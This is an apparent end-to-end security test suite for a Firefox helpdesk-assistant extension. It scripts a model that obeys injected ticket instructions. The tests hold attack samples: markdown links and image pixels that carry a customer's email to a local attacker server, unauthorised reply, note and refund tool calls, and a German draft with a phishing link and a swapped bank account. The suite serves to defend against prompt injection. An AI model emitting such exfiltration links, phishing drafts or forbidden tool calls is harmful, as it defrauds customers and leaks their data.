import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from 'puppeteer-core';
import { afterAll, beforeAll, beforeEach, describe, expect } from 'vitest';
import { ask, DEMO_MODEL, startModel, waitForChat, type ModelForExtension } from '../e2e/harness/chat';
import { showTab, startDemoHelpdesk, theCard, TICKET_1, waitIn, type DemoHelpdesk, type Driver } from '../e2e/harness/deskmate';
import { launchFirefox, openFirefoxExtensionPage, openFirefoxPage, type FirefoxHarness } from '../e2e/harness/firefox';
import { firefoxDriver } from '../e2e/harness/firefox-driver';
import { poll, sleep } from '../e2e/harness/wait';
import { attack } from './attack';

declare const browser: {
  tabs: { query(q: object): Promise<{ id?: number; url?: string }[]>; remove(id: number): Promise<void> };
  runtime: { sendMessage(m: object): Promise<unknown> };
};

const SECRET = 'maria.lindqvist%40example.com';
const EVIL = 'Refund of EUR 480 approved. Wire details: XX00 ATTACKER 0000.';
const DRAFT = 'Hello Maria, thank you for your patience: we are checking the invoice and will write back today.';
const GERMAN = { id: 9, label: '#1049' } as const;
const PHISH = 'https://northwind-refunds.example/bestaetigen?ref=NW-21877';
const FAKE_IBAN = 'DE44 5001 0517 5407 3249 31';
const GERMAN_DRAFT = [
  'Guten Tag Herr Becker,',
  '',
  'wir erstatten den doppelten Betrag auf Ihr Konto DE89 3704 0044 0532 0130 00.',
  `Bitte bestätigen Sie vorher Ihre Daten unter ${PHISH} oder überweisen Sie die Gebühr auf ${FAKE_IBAN}.`,
  'Rückfragen: +49 30 12345678.',
  '',
  'Freundliche Grüße',
].join('\n');

interface StoredRecord {
  status: string;
  payload: { body: string };
}
interface AuditLine {
  kind: string;
  tool: string;
  site: string;
  ticket: string | null;
  detail?: string;
}

/**
 * Findings 2, 3, 6 and 7 in Firefox ESR (MV2 background page; the sidebar as
 * moz-extension://UUID/sidepanel.html?tab=N), against the demo model scripted as an obedient
 * victim of an injection: links carry nothing out on a click, a draft of a steered turn is held
 * until the agent acknowledges it (in the background, not only in the buttons), and the confirm
 * card lists a phishing link and a changed bank account as the assistant's own.
 */
describe('security: a model that obeys the ticket, in Firefox (findings 2, 3, 6, 7)', () => {
  let firefox: FirefoxHarness;
  let helpdesk: DemoHelpdesk;
  let m: ModelForExtension;
  let attacker: Server;
  let attackerOrigin = '';
  const hits: string[] = [];
  const open: Page[] = [];

  beforeAll(async () => {
    attacker = createServer((req, res) => {
      hits.push(req.url ?? '');
      res.writeHead(200, { 'content-type': 'text/plain' }).end('ok');
    });
    await new Promise<void>((ready) => attacker.listen(0, '127.0.0.1', ready));
    // Another port of the same loopback host: another origin, so another site.
    attackerOrigin = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`;
    helpdesk = await startDemoHelpdesk();
    m = await startModel({ chunkDelayMs: 2 });
    firefox = await launchFirefox();
    if (!m.onDefaultPort) {
      const options = await openFirefoxExtensionPage(firefox, 'options.html');
      const current = (await options.evaluate(() => browser.runtime.sendMessage({ type: 'model.get' }))) as { value: object };
      await options.evaluate((settings) => browser.runtime.sendMessage({ type: 'model.set', settings }), { ...current.value, baseURL: m.model.url, model: DEMO_MODEL });
      await options.close();
    }
  }, 90_000);
  afterAll(async () => {
    await firefox?.close();
    await m?.model.close();
    await helpdesk?.close();
    attacker?.closeAllConnections();
    await new Promise<void>((done) => (attacker ? attacker.close(() => done()) : done()));
  });
  beforeEach(async () => {
    for (const page of open.splice(0)) await page.close().catch(() => undefined);
    await helpdesk.reset();
    m.model.reset();
    hits.length = 0;
  });

  /** A ticket tab and the sidebar bound to it, on the chat. */
  async function sidebarOn(id: number): Promise<{ ticket: Page; page: Page; sidebar: Driver }> {
    const url = helpdesk.ticketUrl(id);
    const ticket = await openFirefoxPage(firefox, url);
    open.push(ticket);
    await ticket.waitForSelector(`.hd-ticket[data-ticket-id="${id}"]`);
    const finder = await openFirefoxExtensionPage(firefox, 'sidepanel.html');
    const ids = await finder.evaluate((u) => browser.tabs.query({}).then((tabs) => tabs.filter((t) => t.url === u).map((t) => t.id)), url);
    await finder.close();
    expect(ids).toHaveLength(1);
    const page = await openFirefoxExtensionPage(firefox, `sidepanel.html?tab=${ids[0]!}`);
    open.push(page);
    const sidebar = firefoxDriver(page);
    await showTab(sidebar, 'Chat');
    await page.waitForSelector('[data-testid="chat-input"]');
    return { ticket, page, sidebar };
  }

  const ask$ = (page: Page, message: object) => page.evaluate((msg) => browser.runtime.sendMessage(msg), message) as Promise<{ ok: boolean; value?: unknown; code?: string }>;

  /** The confirmation records in the background's vault (IndexedDB of the extension's origin). */
  const stored = (page: Page) =>
    page.evaluate(
      () =>
        new Promise<StoredRecord[]>((resolve, reject) => {
          const req = indexedDB.open('deskmate');
          req.onerror = () => reject(req.error);
          req.onsuccess = () => {
            const db = req.result;
            if (!db.objectStoreNames.contains('items')) return resolve([]);
            const get = db.transaction('items').objectStore('items').get('confirmations');
            get.onerror = () => reject(get.error);
            get.onsuccess = () => resolve(Object.values(((get.result as { value?: object } | undefined)?.value ?? {}) as object) as StoredRecord[]);
          };
        }),
    );

  const audit = async (page: Page) => {
    const answer = (await ask$(page, { type: 'audit.list' })) as { ok: boolean; value: AuditLine[] };
    expect(answer.ok).toBe(true);
    return answer.value;
  };

  attack('Firefox: links, autolinks, reference links and images the model writes carry nothing out on a click', async () => {
    const evil = (path: string) => `${attackerOrigin}/${path}?email=${SECRET}`;
    m.model.script([
      {
        text: [
          `[Open ticket #1047 in the helpdesk](${evil('inline')})`,
          '',
          `Autolink: <${evil('auto')}> and bare ${evil('bare')}`,
          '',
          'See [the refund form][form].',
          '',
          `![status](${evil('pixel.png')})`,
          '',
          `The ticket itself: [ticket](${helpdesk.ticketUrl(TICKET_1.id)})`,
          '',
          `[form]: ${evil('ref')}`,
        ].join('\n'),
      },
    ]);
    const { page, sidebar } = await sidebarOn(TICKET_1.id);
    await ask(sidebar, 'Where can the customer see the refund?');
    await waitForChat(sidebar, (v) => !v.running && v.assistants.some((a) => a.text.includes('Open ticket #1047')), 'the answer with its links');
    // The helpdesk's own link is trusted once the background's `links.trusted` answer is in.
    await waitIn(sidebar, () => document.querySelectorAll('[data-testid="md-link"][data-trusted="true"]').length === 1, null, 'the helpdesk link trusted');

    const shown = await page.evaluate(() => ({
      hrefs: [...document.querySelectorAll('.chat-log a[href]')].map((a) => a.getAttribute('href')),
      images: document.querySelectorAll('img, iframe, object, embed').length,
      hosts: [...document.querySelectorAll('[data-testid="link-host"]')].map((h) => h.textContent),
      toggles: [...document.querySelectorAll('[data-testid="ext-link-toggle"]')].map((b) => b.textContent),
    }));
    const attackerHost = new URL(attackerOrigin).host;
    expect(shown.hrefs).toEqual([helpdesk.ticketUrl(TICKET_1.id)]);
    expect(shown.images).toBe(0);
    expect(shown.hosts).toEqual([attackerHost, attackerHost, attackerHost, attackerHost, attackerHost, new URL(helpdesk.url).host]);
    expect(shown.toggles).toEqual(['Open ticket #1047 in the helpdesk', evil('auto'), evil('bare'), 'the refund form', '[status]']);

    // A real click on each link's text: nothing leaves, no tab opens; the full address shows.
    const tabs = () => page.evaluate(() => browser.tabs.query({}).then((all) => all.map((t) => ({ id: t.id, url: t.url }))));
    const tabsBefore = (await tabs()).length;
    const toggles = await page.$$('[data-testid="ext-link-toggle"]');
    for (const toggle of toggles) await toggle.click();
    await sleep(1_000);
    expect(hits).toEqual([]);
    expect((await tabs()).length).toBe(tabsBefore);
    const urls = await page.evaluate(() => [...document.querySelectorAll('[data-testid="ext-link-url"]')].map((u) => u.textContent));
    expect(urls).toEqual([evil('inline'), evil('auto'), evil('bare'), evil('ref'), evil('pixel.png')]);

    // The explicit second step is the way out, and the only one: it opens the address shown.
    await sidebar.click('[data-testid="ext-link-step"] [data-testid="ext-link-open"]');
    // The tab the browser opened asks the same server for its icon too, before or after the page: not ours to count.
    const asked = () => hits.filter((h) => h !== '/favicon.ico');
    await poll(async () => (asked().length ? true : undefined), 'the second step to open the address');
    expect(asked()).toEqual([`/inline?email=${SECRET}`]);
    const opened = await poll(async () => (await tabs()).find((t) => t.url?.startsWith(`${attackerOrigin}/inline`)), 'the opened tab');
    await page.evaluate((id) => browser.tabs.remove(id), opened.id!);
  });

  attack('Firefox: a link to a site the knowledge base only mentions, or one that carries data, opens on one click', async () => {
    const status = `${attackerOrigin}/status`;
    const returns = `${attackerOrigin}/returns`;
    const ticketLink = helpdesk.ticketUrl(TICKET_1.id);
    m.model.script([
      {
        text: [
          `[Open ticket #1047 in the helpdesk](${status}?email=${SECRET})`,
          `[The returns form](${returns}?email=${SECRET})`,
          `[This ticket](${ticketLink}?email=${SECRET})`,
          `[The returns form, as the knowledge base gives it](${returns})`,
        ].join('\n\n'),
      },
    ]);
    const { page, sidebar } = await sidebarOn(TICKET_1.id);
    // The team's knowledge base names the attacker's status page, and links one exact address there.
    const kb = `# Status\nOutages are posted on ${status} as they happen.\n\n# Returns\nUse [the returns form](${returns}).`;
    expect(await ask$(page, { type: 'kb.import', files: [{ name: 'kb.md', text: kb }] })).toMatchObject({ ok: true, value: { added: 2 } });
    try {
      await ask(sidebar, 'Where does the customer return the lamp?');
      await waitForChat(sidebar, (v) => !v.running && v.assistants.some((a) => a.text.includes('Open ticket #1047')), 'the answer with its links');
      // Settled once the exact address the knowledge base links to is trusted.
      await waitIn(sidebar, () => document.querySelectorAll('[data-testid="md-link"][data-trusted="true"]').length === 1, null, 'the knowledge base’s own link trusted');
      const hrefs = await page.evaluate(() => [...document.querySelectorAll('.chat-log a[href]')].map((a) => a.getAttribute('href')));
      expect(hrefs).toEqual([returns]);
      for (const toggle of await page.$$('[data-testid="ext-link-toggle"]')) await toggle.click();
      await sleep(1_000);
      expect(hits).toEqual([]);
      const urls = await page.evaluate(() => [...document.querySelectorAll('[data-testid="ext-link-url"]')].map((u) => u.textContent));
      expect(urls).toEqual([`${status}?email=${SECRET}`, `${returns}?email=${SECRET}`, `${ticketLink}?email=${SECRET}`]);
    } finally {
      await ask$(page, { type: 'kb.clear' });
    }
  });

  attack('Firefox: the model calls reply.send, note.add and a made-up tool next to its draft, and the draft is sent unacknowledged', async () => {
    m.model.script([
      { toolCalls: [{ name: 'ticket__read' }] },
      {
        toolCalls: [
          { name: 'reply__send', arguments: { body: EVIL } },
          { name: 'reply__propose', arguments: { body: DRAFT } },
          { name: 'note__add', arguments: { body: EVIL } },
          { name: 'helpdesk__refund', arguments: { amount: 480 } },
        ],
      },
      { text: 'I have prepared a draft.' },
    ]);
    const { ticket, page, sidebar } = await sidebarOn(TICKET_1.id);
    await ask(sidebar, 'Draft a reply.');
    const view = await waitForChat(sidebar, (v) => !v.running && v.drafts.length === 1, 'the draft of the steered turn');
    expect(view.drafts).toEqual([DRAFT]);
    expect(view.confirms).toBe(0);

    const warnings = () =>
      page.evaluate(() => ({
        turn: [...document.querySelectorAll('[data-testid="attack-warning"]')].map((el) => el.textContent ?? ''),
        draft: [...document.querySelectorAll('[data-testid="draft-warning"]')].map((el) => el.textContent ?? ''),
        send: [...document.querySelectorAll<HTMLButtonElement>('[data-testid="draft-send"]')].map((b) => b.disabled),
        insert: [...document.querySelectorAll<HTMLButtonElement>('[data-testid="draft-insert"]')].map((b) => b.disabled),
      }));
    const shown = await warnings();
    expect(shown.turn).toHaveLength(1);
    expect(shown.turn[0]).toContain('The assistant tried to use actions it is not allowed to use; this ticket may contain instructions aimed at it');
    for (const tool of ['reply.send', 'note.add', 'helpdesk.refund']) expect(shown.turn[0]).toContain(tool);
    expect(shown.draft).toHaveLength(1);
    expect(shown.send).toEqual([true]);
    expect(shown.insert).toEqual([true]);

    // The buttons are only the first line: forced back on, as a tampered sidebar would, their
    // clicks reach the background, which refuses the draft's Send… and Insert as not acknowledged.
    await page.evaluate(() => {
      for (const b of document.querySelectorAll<HTMLButtonElement>('[data-testid="draft-send"], [data-testid="draft-insert"]')) b.disabled = false;
    });
    await sidebar.click('[data-testid="draft-insert"]');
    await waitIn(sidebar, () => document.querySelector('[data-testid="draft-card"] .error')?.textContent, null, 'the refusal of Insert');
    await page.evaluate(() => {
      for (const b of document.querySelectorAll<HTMLButtonElement>('[data-testid="draft-send"]')) b.disabled = false;
    });
    await sidebar.click('[data-testid="draft-send"]');
    await poll(async () => ((await audit(page)).filter((e) => e.kind === 'refuse' && /^not_acknowledged/.test(e.detail ?? '')).length === 2 ? true : undefined), 'two refusals in the audit');
    await sleep(300);
    expect(await stored(page)).toEqual([]);
    expect(await page.$$eval('[data-testid="confirm-card"]', (cards) => cards.length)).toBe(0);
    expect(await helpdesk.sentLog()).toEqual([]);
    expect(await ticket.evaluate(() => document.querySelector('.hd-reply .hd-editor')?.textContent ?? null)).toBe('');

    // Every forbidden call is in the audit log, on this site and ticket.
    const attempts = (await audit(page)).filter((e) => e.kind === 'attempt');
    expect(attempts.map((e) => e.tool).sort()).toEqual(['helpdesk.refund', 'note.add', 'reply.send']);
    expect(attempts.every((e) => e.site === helpdesk.url && e.ticket === TICKET_1.label)).toBe(true);

    // Acknowledged by a person (`draft-ack`): recorded; only then does Send… open the card. The
    // buttons forced on above are put back as the sidebar drew them first: it leaves a property it
    // did not change alone, so a button still forced on would pass the wait below before the
    // acknowledgement reached the background.
    await page.evaluate(() => {
      for (const b of document.querySelectorAll<HTMLButtonElement>('[data-testid="draft-send"], [data-testid="draft-insert"]')) b.disabled = true;
    });
    await sidebar.click('[data-testid="draft-ack"]');
    await poll(async () => ((await warnings()).send[0] === false ? true : undefined), 'Send… to be enabled after the acknowledgement');
    expect((await audit(page)).filter((e) => e.kind === 'acknowledge')).toHaveLength(1);
    expect((await warnings()).draft).toHaveLength(1); // the warning stays
    await sidebar.click('[data-testid="draft-send"]');
    const card = await theCard(sidebar, ['pending']);
    expect(card.body).toBe(DRAFT);
    expect(await helpdesk.sentLog()).toEqual([]);
    await sidebar.click('[data-testid="confirm-card"] [data-testid="confirm-cancel"]').catch(() => undefined);
  });

  attack('Firefox: a phishing link and a changed bank account in a model-written draft pass the card unnoticed', async () => {
    m.model.script([
      { toolCalls: [{ name: 'ticket__read', arguments: {} }] },
      { toolCalls: [{ name: 'reply__propose', arguments: { body: GERMAN_DRAFT } }] },
      { text: 'Here is a draft.' },
    ]);
    const { page, sidebar } = await sidebarOn(GERMAN.id);
    await ask(sidebar, 'Draft a reply.');
    await waitForChat(sidebar, (v) => !v.running && v.drafts.length === 1, 'the draft card');
    await waitIn(sidebar, () => document.querySelector<HTMLButtonElement>('[data-testid="draft-send"]')?.disabled === false, null, 'Send… to be offered');
    await sidebar.click('[data-testid="draft-send"]');
    // theCard waits for the `confirm.review` list: until it is in, the card is still reviewing.
    await theCard(sidebar, ['pending']);
    await waitIn(sidebar, () => document.querySelector('[data-testid="confirm-review"]')?.getAttribute('data-state') === 'ready', null, 'the list under the body');

    const listed = await page.evaluate(() =>
      [...document.querySelectorAll<HTMLElement>('[data-testid="review-item"]')].map((li) => ({
        kind: li.dataset.kind,
        value: li.querySelector('.review-value')?.textContent,
        host: li.querySelector('[data-testid="review-host"]')?.textContent ?? null,
        unverified: li.dataset.unverified === 'true',
        source: li.querySelector('[data-testid="review-source"]')?.textContent,
      })),
    );
    expect(listed).toEqual([
      { kind: 'link', value: PHISH, host: 'northwind-refunds.example', unverified: true, source: expect.stringMatching(/^⚠ /) },
      { kind: 'iban', value: 'DE89 3704 0044 0532 0130 00', host: 'DE', unverified: false, source: 'in the ticket' },
      { kind: 'iban', value: FAKE_IBAN, host: 'DE', unverified: true, source: expect.stringMatching(/^⚠ /) },
      { kind: 'phone', value: '+49 30 12345678', host: null, unverified: false, source: 'in the ticket' },
    ]);
    expect(await page.$eval('[data-testid="review-warning"]', (el) => el.textContent)).toMatch(/^2 of these came from the assistant/);
    // Shown, not sent.
    expect(await helpdesk.sentLog()).toEqual([]);
    expect((await stored(page)).filter((r) => r.payload.body === GERMAN_DRAFT).map((r) => r.status)).toEqual(['pending']);
  });

  attack("Firefox: the tab moves to another site's ticket with the same number, and the model there is sent the first site's ticket", async () => {
    const secret = 'SECRET-OF-SITE-A: card ending 4242, invoice 991';
    m.model.script([{ toolCalls: [{ name: 'ticket__read' }] }, { text: 'Read it.' }, { text: 'Hello from site B.' }]);
    const { ticket, page, sidebar } = await sidebarOn(TICKET_1.id);
    await sidebar.click('[data-testid="header-menu"]');
    await sidebar.click('[data-testid="chat-new"]');
    await waitForChat(sidebar, (v) => v.users.length === 0 && !v.running, 'a new conversation on site A');
    await ticket.evaluate((s) => document.querySelector('.hd-message-body')!.insertAdjacentHTML('beforeend', `<p>${s}</p>`), secret);
    await ask(sidebar, 'What does the customer want?');
    await waitForChat(sidebar, (v) => !v.running && v.assistants.length === 1, 'the answer on site A');
    expect(JSON.stringify(m.model.requests())).toContain('SECRET-OF-SITE-A');

    // The same helpdesk under another origin is another site: ticket #1041 there is another customer.
    await ticket.goto(helpdesk.ticketUrl(TICKET_1.id).replace('127.0.0.1', 'localhost'));
    await ticket.waitForSelector(`.hd-ticket[data-ticket-id="${TICKET_1.id}"]`);
    await waitForChat(sidebar, (v) => v.users.length === 0, "site B's own conversation", { timeoutMs: 15_000 });
    const before = m.model.requests().length;
    await ask(sidebar, 'And this customer?');
    await waitForChat(sidebar, (v) => !v.running && v.assistants.length === 1, 'the answer on site B');
    const onB = m.model.requests().slice(before);
    expect(onB.length).toBeGreaterThan(0);
    const sent = JSON.stringify(onB);
    expect(sent).toContain('And this customer?');
    expect(sent).not.toContain('SECRET-OF-SITE-A');
    expect(sent).not.toContain('What does the customer want?');
    expect(sent).not.toContain('Read it.');
    expect(await helpdesk.sentLog()).toEqual([]);
  });
});
